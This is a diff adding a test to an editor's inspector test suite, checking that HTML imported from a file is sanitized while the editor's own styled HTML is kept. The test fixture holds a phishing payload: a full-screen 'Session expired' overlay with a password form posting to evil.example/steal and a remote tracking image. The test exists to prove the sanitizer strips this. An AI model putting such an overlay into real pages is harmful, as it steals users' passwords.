@@ -218,6 +218,44 @@ test("the rich-text field's markup is sanitized before it reaches the project", 
   expect(html).not.toMatch(/onerror|script/i);
 });
 
+test("an imported event's html shows and is written with the strict profile of files: no overlay, no form, no remote request", () => {
+  const phishing =
+    '<div style="position:fixed;inset:0;z-index:2147483647">Session expired<form action="https://evil.example/steal">' +
+    '<input type="password" name="p"><button>Sign in</button></form><img src="https://evil.example/t.png"></div>';
+  const imported = {
+    id: "text-1",
+    type: "text",
+    start: 0,
+    end: 4,
+    options: { text: "", html: phishing },
+    origin: "file" as const,
+  };
+  const own = {
+    id: "text-2",
+    type: "text",
+    start: 5,
+    end: 9,
+    options: { text: "", html: '<p style="color: red">Mine</p>' },
+  };
+  const { editor } = renderInspector([imported, own], "text-1");
+  const box = screen.getByRole("textbox", { name: /^HTML|^Html/ });
+  expect(box.querySelector("form, input, button, [style], img[src]")).toBeNull();
+  expect(box.textContent).toContain("Session expired");
+  // An edit writes what the strict profile keeps; the event stays one from a file.
+  fireEvent.focus(box);
+  box.innerHTML = `<b>Edited</b>${phishing}`;
+  fireEvent.input(box);
+  wait(300);
+  fireEvent.blur(box);
+  const written = findEvent(editor.getSnapshot().project, "text-1");
+  expect(written?.options.html).toMatch(/^<b>Edited<\/b>/);
+  expect(String(written?.options.html)).not.toMatch(/style|form|input|evil\.example/);
+  expect(written?.origin).toBe("file");
+  // The editor's own html keeps the page's profile: its style stays.
+  act(() => editor.select("text-2"));
+  expect(screen.getByRole("textbox", { name: /^HTML|^Html/ }).innerHTML).toBe('<p style="color: red">Mine</p>');
+});
+
 test("the target select lists the layout's outlets and In place; Pick on stage sets the stage mode", () => {
   const note = { id: "footnote-1", type: "footnote", start: 0, end: 4, options: { text: "Harbour" } };
   const { editor, ui } = renderInspector([note], "footnote-1");
